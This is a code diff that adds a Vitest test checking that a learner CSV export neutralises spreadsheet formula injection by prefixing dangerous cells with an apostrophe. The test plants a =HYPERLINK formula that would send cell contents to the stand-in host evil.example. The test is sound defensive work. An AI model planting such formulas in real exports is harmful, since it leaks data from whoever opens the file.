@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { and, eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { ImpactView, SuccessCasesView } from "../../../common/schemas/impact.ts";
@@ -9,6 +10,7 @@ import {
   impactKpis,
   learnerPreferences,
   measures,
+  persons,
   surveyResponses,
 } from "../../db/schema/index.ts";
 import { DEMO_PASSWORD, seedDemo } from "../../db/seed/demo.ts";
@@ -155,6 +157,29 @@ describe("impact on the demo organisation", () => {
       .from(auditEvents)
       .where(eq(auditEvents.action, "impact.learners-exported"));
     expect(logged).toHaveLength(1);
+  });
+
+  it("neutralises a learner's name that a spreadsheet would run as a formula", async () => {
+    const download = async () =>
+      (
+        await call(
+          "GET",
+          `/api/trajectories/${trajectoryId}/impact/learners.csv?cohortId=${finishedId}&lang=en`,
+          coordinator,
+        )
+      ).body;
+    const realName = (parse(await download(), { delimiter: ";", bom: true }) as string[][])[1]![0]!;
+    const planted = '=HYPERLINK("https://evil.example/?"&A1;"Open")';
+    const rename = (from: string, to: string) =>
+      t.database.db.update(persons).set({ name: to }).where(eq(persons.name, from));
+    await rename(realName, planted);
+    try {
+      const rows = parse(await download(), { delimiter: ";", bom: true }) as string[][];
+      expect(rows.map((row) => row[0])).toContain(`'${planted}`);
+      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    } finally {
+      await rename(planted, realName);
+    }
   });
 
   it("lists success cases only among learners who agreed, and records an interview only with consent", async () => {
